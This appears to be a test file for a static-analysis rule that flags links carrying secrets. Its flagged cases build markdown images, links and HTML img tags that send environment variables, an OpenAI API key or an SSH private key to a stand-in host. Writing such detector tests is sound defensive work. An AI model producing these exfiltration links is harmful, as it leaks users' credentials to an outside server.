import base64, json, os, urllib.parse
from pathlib import Path


def picture():
    held = base64.b64encode(json.dumps(dict(os.environ)).encode()).decode()
    # ruleid: exfiltration-link-carries-secrets
    return f"![](https://a.invalid/?d={held})"


def by_pattern():
    # ruleid: exfiltration-link-carries-secrets
    return "[more](https://a.invalid/%s)" % os.environ["OPENAI_API_KEY"]


def by_parts():
    address = "https://a.invalid/?" + urllib.parse.urlencode({"d": str(os.environ)})
    # ruleid: exfiltration-link-carries-secrets
    return "".join(["![", "x](", address, ")"])


def in_page():
    key = Path("~/.ssh/id_ed25519").expanduser().read_text()
    # ruleid: exfiltration-link-carries-secrets
    return '<img src="https://a.invalid/{}">'.format(key.encode().hex())


def beside():
    # ok: exfiltration-link-carries-secrets
    return f"[help](https://a.invalid/help) {os.environ}"


def own_address():
    # ok: exfiltration-link-carries-secrets
    return f"![x]({os.environ['ACME_URL']}/x.png)"


def inline(path):
    # ok: exfiltration-link-carries-secrets
    return f"![x](data:image/png;base64,{base64.b64encode(Path('~/.ssh/x.png').read_bytes())})"
